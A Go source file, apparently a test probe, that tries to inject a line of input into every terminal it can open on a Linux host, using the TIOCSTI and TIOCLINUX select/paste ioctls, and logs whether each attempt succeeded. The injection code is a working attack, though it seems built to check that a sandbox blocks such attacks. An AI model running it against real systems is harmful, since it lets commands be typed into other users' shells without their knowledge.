package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// tiocLinux is Linux's own request for its consoles.
const tiocLinux = 0x541c

// types tries to type the line into every terminal that it can get hold of. It
// does so once the file "go" is in the working directory, and how it went is in
// "said" there: the terminal may be one that nobody reads.
func types(args []string) {
	line := "\n"
	if len(args) > 0 {
		line = args[0] + "\n"
	}
	fmt.Println("waiting")
	waitFor(func() bool { _, err := os.Stat("go"); return err == nil })
	said, err := os.Create("making")
	if err != nil {
		report("create", err)
		return
	}
	for _, name := range terminals() {
		fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			_, _ = fmt.Fprintf(said, "open %s: %s\n", name, err)
			continue
		}
		for request, err := range intrude(fd, line) {
			how := "done"
			if err != nil {
				how = err.Error()
			}
			_, _ = fmt.Fprintf(said, "%s %s: %s\n", request, name, how)
		}
		_ = unix.Close(fd)
	}
	if err := errors.Join(said.Close(), os.Rename("making", "said")); err != nil {
		report("say", err)
	}
}

// terminals are the files that are, or could be, a terminal of anybody's.
func terminals() []string {
	names := []string{"/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0"}
	for _, pattern := range []string{"/dev/pts/[0-9]*", "/proc/[0-9]*/fd/*"} {
		found, _ := filepath.Glob(pattern)
		for _, name := range found {
			if info, err := os.Stat(name); err == nil && info.Mode()&fs.ModeCharDevice != 0 {
				names = append(names, name)
			}
		}
	}
	return names
}

// intrude asks a terminal for each thing that ends in what its user's next
// program reads.
func intrude(fd int, line string) map[string]error {
	var steal error
	for i := range len(line) {
		key := line[i]
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&key))); errno != 0 { //nolint:gosec // an attack
			steal = errno
			break
		}
	}
	results := map[string]error{"TIOCSTI": steal}
	const selectText, paste = 2, 3
	for name, sub := range map[string]byte{"TIOCLINUX select": selectText, "TIOCLINUX paste": paste} {
		// The sub-code, and with select from and to where and how: a line.
		argument := [16]byte{sub, 1, 0, 1, 0, 80, 0, 1, 0, 2}
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), tiocLinux, uintptr(unsafe.Pointer(&argument))) //nolint:gosec // an attack
		results[name] = nil
		if errno != 0 {
			results[name] = errno
		}
	}
	return results
}

// waitFor waits for something that somebody else does.
func waitFor(condition func() bool) {
	for !condition() {
		time.Sleep(10 * time.Millisecond)
	}
}
